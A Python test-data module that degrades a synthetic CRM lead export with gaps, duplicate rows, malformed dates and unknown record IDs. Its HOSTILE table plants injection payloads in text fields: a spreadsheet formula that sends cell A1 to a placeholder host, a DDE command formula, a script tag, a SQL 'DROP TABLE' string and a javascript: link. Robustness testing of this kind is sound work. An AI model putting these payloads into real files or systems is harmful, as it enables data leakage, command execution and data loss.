"""What goes wrong between the world and an export: gaps, stale and hostile text, doubles, late and broken rows."""

from __future__ import annotations

from datetime import timedelta

from story.dice import Dice
from story.log import Entry, Log, Row, local
from story.records import Lead

HOSTILE = {
    11: ("Full Name", '=HYPERLINK("http://example.invalid/?x="&A1;"open me")'),
    47: ("Full Name", "<script>alert('lead')</script>"),
    83: ("Company Name", 'Kessler "Präzision" & Söhne; Nachf.'),
    131: ("Full Name", "Robert'); DROP TABLE leads;--"),
    178: ("Company Name", "株式会社サンプル"),
    233: ("Full Name", "| **bold** | [click](javascript:alert(1)) |"),
    290: ("Company Name", "@SUM(1+1)*cmd|' /C calc'!A0"),
    344: ("Full Name", "Núñez\tde\tla\tPeña"),
}
ODD_IDS = {59: "NA", 160: "0042", 301: "null"}
UNREADABLE = {72: ("Number of Employees", "ca. 200"), 214: ("Budget", "tbd"), 409: ("Segment", "Midmarket?")}
GAPS = {"Country/Region": 3, "Segment": 5, "Lead Source": 3, "Industry": 5, "Number of Employees": 5, "Seniority": 12}
GAPS |= {"Annual Revenue (EUR)": 9, "Company data updated": 6}


def spoil_record(number: int, lead: Lead) -> None:
    """Takes facts away, and writes what people and scripts write into text fields."""
    dice = Dice(f"gaps {number}")
    for column, percent in GAPS.items():
        if dice.chance(percent):
            lead.cells[column] = "-" if column == "Country/Region" and dice.chance(50) else ""
    for special in (HOSTILE, UNREADABLE):
        if number in special:
            column, text = special[number]
            lead.cells[column] = text


def spoil_log(log: Log) -> None:
    """Acts without an author, entries written days later, and a colleague's act after the author had left."""
    dice = Dice(f"mess {log.lead}")
    for entry in log.activities:
        if dice.chance(2):
            entry.row["Assigned To"] = ""
        if dice.chance(3):
            entry.row["Logged At"] = local(entry.at + timedelta(hours=dice.between(20, 120)))


def doubled(rows: list[Row], every: int) -> list[Row]:
    """The same rows with each `every`-th written twice, as a paged export does when rows move between pages."""
    out: list[Row] = []
    for number, row in enumerate(rows, 1):
        out += [row, row] if number % every == 0 else [row]
    return out


def break_activities(rows: list[Row]) -> None:
    """A few dates that no calendar has, a lead that was deleted, an id left out, a date in another century."""
    for number, column, text in (
        (120, "Activity Date", "31.02.2026 10:00:00"),
        (890, "Activity Date", "tomorrow"),
        (1410, "Activity Date", ""),
        (333, "Associated Record ID", "99999901"),
        (334, "Associated Record ID", "99999901"),
        (777, "Associated Record ID", ""),
        (1000, "Activity Date", "12.03.2062 09:15:00"),
        (1500, "Activity Date", "03.08.2026 14:00:00"),
        (1750, "Activity Date", "01.07.2026 11:30:00"),
    ):
        rows[number][column] = text


def break_changes(rows: list[Row]) -> None:
    """Two moves without a readable time, one of a lead nobody knows."""
    rows[200]["Changed At"] = "2026-13-04T10:00:00Z"
    rows[700]["Changed At"] = ""
    rows[450]["Record ID"] = "99999902"


def break_visits(entries: list[Entry]) -> None:
    """Event types the tracker added without telling anyone."""
    for number in (300, 1200, 2100):
        entries[number].row["event_type"] = "chat_opened"
